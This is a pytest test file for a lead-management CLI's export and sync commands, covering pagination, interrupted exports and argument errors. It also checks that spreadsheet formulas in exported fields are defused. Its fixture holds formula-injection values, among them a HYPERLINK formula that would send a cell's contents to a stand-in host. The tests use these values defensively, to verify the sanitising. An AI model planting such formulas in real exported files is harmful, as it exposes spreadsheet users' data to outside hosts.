"""`export` over a real socket, and `sync` of the exported files."""

from __future__ import annotations

import asyncio
import csv
import json
import os
import signal
import stat
import subprocess
import zipfile
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from publitrac_async.bulk import read_leads
from publitrac_async.bulk.report.workbook import MAX_ROWS
from publitrac_async.cli.tables import CsvTable
from publitrac_async.cli.workbook import Workbook, check_rows
from publitrac_async.sandbox import Fault, Sandbox
from tests.integration.cli.conftest import Beside
from tests.support.command_line import CANARIES, ROOT, command, environment, run, secrets
from tests.support.commands import start_command

TRICKY = {
    "firstName": '=HYPERLINK("http://example.com?"&A1,"x")',
    "lastName": "'=1+1",
    "company": "@SUM(A1)",
    "phone": "+46 70 123 45 67",
    "mobile": "+1-555-0100",
    "city": "-12",
    "jobTitle": "-A1",
    "notes": '+A1\nsecond, "quoted" line\ttab',
    "postalCode": "01234",
    "carColor": "=1",
}


def table(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file, strict=True))


def rows(path: Path) -> list[dict[str, Any]]:
    return [dict(row.fields) for row in read_leads(path)]


def seed_many(sandbox: Sandbox, count: int) -> None:
    sandbox.seed(leads=[{"email": f"lead{number}@example.com", "score": number} for number in range(count)])


@pytest.mark.parametrize("suffix", ["csv", "jsonl", "xlsx"])
async def test_every_page_goes_into_one_file_and_nothing_else_is_left(
    sandbox: Sandbox, beside: Beside, tmp_path: Path, suffix: str
) -> None:
    seed_many(sandbox, 250)
    sandbox.seed(leads=[{"email": "last@example.com", "carColor": "Red", "isCustomer": True}])
    path = tmp_path / f"leads.{suffix}"
    path.write_text("an older export")
    done = await beside("export", path)
    assert (done.returncode, done.stderr) == (0, "")
    assert done.stdout == f"251 leads in leads.{suffix}.\n"
    assert sandbox.journal.count(method="getLeads") == 3
    leads = rows(path)
    assert [lead["email"] for lead in leads[:-1]] == [f"lead{number}@example.com" for number in range(250)]
    assert str(leads[7]["score"]) == "7"
    assert leads[-1]["carColor"] == "Red"
    assert leads[-1]["isCustomer"] in (True, 1, "1")
    assert list(tmp_path.iterdir()) == [path]
    assert stat.S_IMODE(path.stat().st_mode) == 0o600


async def test_a_table_has_the_fields_that_occur_native_ones_first(
    sandbox: Sandbox, beside: Beside, tmp_path: Path
) -> None:
    sandbox.seed(
        leads=[
            {"email": "a@example.com", "zoo": "z", "carColor": "Red"},
            {"email": "b@example.com", "phone": "1", "firstName": "Bo", "shoe": "44"},
        ]
    )
    await beside("export", tmp_path / "leads.csv")
    header = (tmp_path / "leads.csv").read_bytes().partition(b"\r\n")[0].decode().split(",")
    assert "fax" not in header
    native = [name for name in header if name not in ("zoo", "carColor", "shoe")]
    assert header[: len(native)] == native
    assert native.index("email") < native.index("firstName") < native.index("phone")

    done = await beside("export", tmp_path / "few.csv", "--fields", "shoe, first_name,email")
    assert done.returncode == 0
    assert (tmp_path / "few.csv").read_bytes() == (
        b"shoe,firstName,email\r\n,,a@example.com\r\n44,Bo,b@example.com\r\n"
    )


@pytest.mark.parametrize("suffix", ["csv", "jsonl", "xlsx"])
async def test_an_export_is_synced_back_unchanged(
    sandbox: Sandbox, beside: Beside, tmp_path: Path, suffix: str
) -> None:
    seeded = {"email": "a@example.com", **TRICKY, "dateOfBirth": "1970-01-31 00:00:00", "score": -3}
    sandbox.seed(leads=[seeded])
    before = sandbox.lead("a@example.com")
    path = tmp_path / f"leads.{suffix}"
    assert (await beside("export", path)).returncode == 0
    async with Sandbox(
        rate_limit=None,
        processing_delay=0,
        **dict(zip(("api_key", "username", "password"), CANARIES, strict=True)),
    ) as other:
        done = await asyncio.to_thread(
            run, "sync", path, "--via", "v1", **secrets(), PUBLITRAC_BASE_URL=other.base_url
        )
        assert done.returncode == 0, done.stdout
        after = other.lead("a@example.com")
    assert before is not None
    assert after is not None
    for name in seeded:
        assert after[name] == before[name], name


async def test_formulas_are_defused_and_phone_numbers_are_not(
    sandbox: Sandbox, beside: Beside, tmp_path: Path
) -> None:
    sandbox.seed(leads=[{"email": "a@example.com", **TRICKY}])
    await beside("export", tmp_path / "leads.csv")
    (lead,) = table(tmp_path / "leads.csv")
    for name in ("firstName", "lastName", "company", "jobTitle", "notes", "carColor"):
        assert lead[name] == "'" + TRICKY[name]
    for name in ("phone", "mobile", "city", "postalCode"):
        assert lead[name] == TRICKY[name]
    await beside("export", tmp_path / "leads.xlsx")
    with zipfile.ZipFile(tmp_path / "leads.xlsx") as workbook:
        sheet = workbook.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet
    assert "<t>'=HYPERLINK" in sheet
    assert "<t>+46 70 123 45 67</t>" in sheet
    # JSON is not for spreadsheets.
    done = await beside("export", "-")
    assert json.loads(done.stdout)["firstName"] == TRICKY["firstName"]


async def test_a_query_a_view_or_a_list(sandbox: Sandbox, beside: Beside) -> None:
    sandbox.seed(
        leads=[
            {"email": "a@example.com", "lastName": "Smith", "city": "Umeå"},
            {"email": "b@example.com", "lastName": "Smithers", "city": "Lund"},
            {"email": "c@example.com", "lastName": "Berg", "city": "Lund"},
        ],
        lists=[{"name": "Fair", "leads": ["c@example.com"]}],
        views=[{"name": "In Lund", "queries": [{"field": "city", "operator": "like", "value": "lund"}]}],
    )

    async def found(*options: str) -> list[str]:
        done = await beside("export", "-", *options)
        assert done.returncode == 0, done.stderr
        return [json.loads(line)["email"][0] for line in done.stdout.splitlines()]

    assert await found() == ["a", "b", "c"]
    assert await found("--where", "lastName", "like", "smith%") == ["a", "b"]
    assert await found("--where", "last_name", "like", "smith%", "--where", "city", "like", "Lund") == ["b"]
    assert await found("--where", "lastName", "=", "Berg") == ["c"]
    assert await found("--view", "In Lund") == ["b", "c"]
    assert await found("--list", "Fair") == ["c"]
    assert await found("--where", "lastName", "like", "nobody") == []


async def test_standard_output_takes_csv_as_well_and_one_that_closes_early(
    sandbox: Sandbox, beside: Beside
) -> None:
    seed_many(sandbox, 200)
    done = await beside("export", "-", "--format", "csv", "--fields", "email,score")
    # Text mode has translated the line ends.
    assert done.stdout.splitlines()[:2] == ["email,score", "lead0@example.com,0"]
    assert done.stderr == "200 leads in standard output.\n"
    # A page is delayed, so that `head` has ended before it arrives.
    sandbox.inject(Fault("delay", match="v1.getLeads", seconds=0.3, times=None))
    process = await asyncio.create_subprocess_exec(
        *command("export", "-"),
        stdout=asyncio.subprocess.PIPE,
        stderr=asyncio.subprocess.PIPE,
        env=environment(**secrets(), PUBLITRAC_BASE_URL=sandbox.base_url),
    )
    assert process.stdout is not None
    assert process.stderr is not None
    await process.stdout.readline()
    process._transport.get_pipe_transport(1).close()  # type: ignore[attr-defined]
    error = (await process.stderr.read()).decode()
    assert await process.wait() == 1
    assert error == "publitrac-async: the reader of the output closed it early\n"


@pytest.mark.parametrize("suffix", ["csv", "jsonl", "xlsx"])
async def test_leads_before_an_error_are_kept_and_a_later_page_has_the_rest(
    sandbox: Sandbox, beside: Beside, tmp_path: Path, suffix: str
) -> None:
    seed_many(sandbox, 350)
    sandbox.inject(Fault("status", match="v1.getLeads", status=401, after=2, times=None))
    path = tmp_path / f"leads.{suffix}"
    path.write_text("an older export")
    done = await beside("export", path)
    assert done.returncode == 1
    assert f"200 leads, up to page 2, are in leads.part.{suffix}." in done.stderr
    assert "--page 3" in done.stderr
    assert "AuthenticationError" in done.stderr
    assert "example.com" not in done.stdout + done.stderr
    assert path.read_text() == "an older export"
    sandbox.clear_faults()

    done = await beside("export", path)
    assert done.returncode == 2
    assert f"leads.part.{suffix} is left over from an interrupted export" in done.stderr

    rest = tmp_path / f"rest.{suffix}"
    done = await beside("export", rest, "--page", 3)
    assert done.returncode == 0
    both = rows(tmp_path / f"leads.part.{suffix}") + rows(rest)
    assert [lead["email"] for lead in both] == [f"lead{number}@example.com" for number in range(350)]


async def test_an_interruption_keeps_the_written_leads(sandbox: Sandbox, tmp_path: Path) -> None:
    seed_many(sandbox, 350)
    sandbox.inject(Fault("delay", match="v1.getLeads", seconds=30, after=2, times=None))
    process = await start_command(
        *("export", tmp_path / "leads.csv"),
        cwd=tmp_path,
        variables=environment(**secrets(), PUBLITRAC_BASE_URL=sandbox.base_url),
    )
    while sandbox.journal.count(method="getLeads") < 3:
        await asyncio.sleep(0.005)
    process.send_signal(signal.SIGINT)
    _, error = await process.communicate()
    assert process.returncode == 130, error
    # Page 3 is requested while page 2 is in flight.
    pages = 2 if b"200 leads" in error else 1
    assert b"%d leads, up to page %d, are in leads.part.csv." % (100 * pages, pages) in error
    assert len(table(tmp_path / "leads.part.csv")) == 100 * pages


async def test_when_no_page_came_nothing_is_left(sandbox: Sandbox, beside: Beside, tmp_path: Path) -> None:
    for options in (("--list", "Nowhere"), ("--view", "Nowhere")):
        done = await beside("export", tmp_path / "leads.csv", *options)
        assert done.returncode == 1
        assert "NotFound" in done.stderr
    assert list(tmp_path.iterdir()) == []
    done = await beside("export", tmp_path / "leads.csv")
    assert (done.returncode, done.stdout) == (0, "0 leads in leads.csv.\n")
    assert (tmp_path / "leads.csv").read_bytes() == b""


@pytest.mark.parametrize(
    ("arguments", "words"),
    [
        (("leads.txt",), "leads.txt is not .csv, .jsonl or .xlsx"),
        (("-", "--format", "xlsx"), "a workbook cannot be written to standard output"),
        (("leads.csv", "--view", "A", "--list", "B"), "exclude each other"),
        (("leads.csv", "--view", "A", "--where", "city", "like", "x"), "exclude each other"),
        (("leads.csv", "--fields", "email,,city"), "--fields must be names"),
        (("leads.csv", "--fields", "email,email"), "--fields must be names"),
        (("leads.csv", "--page", "0"), "--page"),
        (("leads.csv", "--where", "city", "like"), "--where"),
        (("nowhere/leads.csv",), "leads.csv cannot be written"),
        (("leads.csv", "--api-key", "x"), "No such option"),
    ],
)
def test_commands_that_cannot_start_end_with_2(
    tmp_path: Path, arguments: tuple[str, ...], words: str
) -> None:
    done = run("export", *arguments, cwd=tmp_path, PUBLITRAC_BASE_URL="http://127.0.0.1:1", **secrets())
    assert done.returncode == 2
    assert words in " ".join(done.stderr.split())
    assert done.stdout == ""
    assert list(tmp_path.iterdir()) == []


def test_v1_needs_all_credentials(tmp_path: Path) -> None:
    for variables in ({}, {"PUBLITRAC_API_KEY": CANARIES[0]}):
        done = run("export", "leads.csv", cwd=tmp_path, **variables)
        assert done.returncode == 2
        assert "Traceback" not in done.stderr
        assert list(tmp_path.iterdir()) == []


async def test_a_cell_that_no_workbook_can_hold_is_empty_and_reported(
    sandbox: Sandbox, beside: Beside, tmp_path: Path
) -> None:
    sandbox.seed(
        leads=[
            {"email": "a@example.com", "notes": "x" * 32_767},
            {"email": "b@example.com", "notes": "x" * 32_768},
            {"email": "c@example.com", "notes": "<r><t>markup</t></r>"},
        ]
    )
    done = await beside("export", tmp_path / "leads.xlsx")
    assert done.returncode == 3
    assert done.stdout == "3 leads in leads.xlsx.\n"
    assert "2 cells are empty" in done.stderr
    assert "row 3, column notes\nrow 4, column notes\n" in done.stderr
    assert [str(row.get("notes", "")) for row in rows(tmp_path / "leads.xlsx")] == ["x" * 32_767, "", ""]
    done = await beside("export", tmp_path / "leads.csv")
    assert done.returncode == 0
    assert [len(row["notes"]) for row in table(tmp_path / "leads.csv")] == [32_767, 32_768, 20]


def test_a_sheet_has_so_many_rows() -> None:
    check_rows(MAX_ROWS)
    with pytest.raises(Exception, match=r"a workbook holds 1,048,575 leads: export to .csv or .jsonl"):
        check_rows(MAX_ROWS + 1)


def test_without_its_library_a_workbook_is_refused_before_anything_is_sent(tmp_path: Path) -> None:
    (tmp_path / "sitecustomize.py").write_text("import sys\nsys.modules['xlsxwriter'] = None\n")
    done = run(
        *("export", tmp_path / "leads.xlsx"),
        PYTHONPATH=os.pathsep.join([str(tmp_path), str(ROOT)]),
        PUBLITRAC_BASE_URL="http://127.0.0.1:1",
        **secrets(),
    )
    assert done.returncode == 2
    assert done.stderr == (
        "publitrac-async: writing .xlsx needs the extra: pip install 'publitrac_async[xlsx]'\n"
    )
    assert not (tmp_path / "leads.xlsx").exists()


def test_the_library_is_loaded_for_workbooks_only() -> None:
    code = "import sys, publitrac_async.cli.commands; print('xlsxwriter' in sys.modules)"
    done = subprocess.run(
        [command()[0], "-c", code], capture_output=True, text=True, env=environment(), check=True
    )
    assert done.stdout == "False\n"


#: Text that XML, and so a lead, can contain.
xml_text = st.text(
    st.characters(codec="utf-8", exclude_categories=["Cs", "Cn"]).filter(
        lambda character: character >= " " or character in "\t\n\r"
    ),
    min_size=1,
)
pieces = st.sampled_from(["=", "'", "+", "-", "@", "\r", "\n", '"', ",", ";", "<", "&", "_x000D_", "_x", "1"])


@settings(suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(texts=st.lists(xml_text | st.lists(pieces, min_size=1).map("".join), min_size=1, max_size=5))
@example(texts=["<r>x</r>", "'", "=1", " ", "\r\n"])
def test_every_text_is_read_back_from_the_file(tmp_path: Path, texts: list[str]) -> None:
    for suffix, kind in ((".csv", CsvTable), (".xlsx", Workbook)):
        path = tmp_path / f"texts{suffix}"
        with path.open("wb") as file:
            writer = kind(file, ["email", "notes"])
            for text in texts:
                writer.write({"email": "a@example.com", "notes": text})
            left_out = writer.close()
        read = [row.get("notes", "") for row in rows(path)]
        if left_out:
            # Cells that a workbook cannot hold are empty, the others are unchanged.
            assert suffix == ".xlsx"
            assert all(found in (text, "") for found, text in zip(read, texts, strict=True))
            assert int(left_out[0].split()[0]) == read.count("")
        else:
            assert read == texts
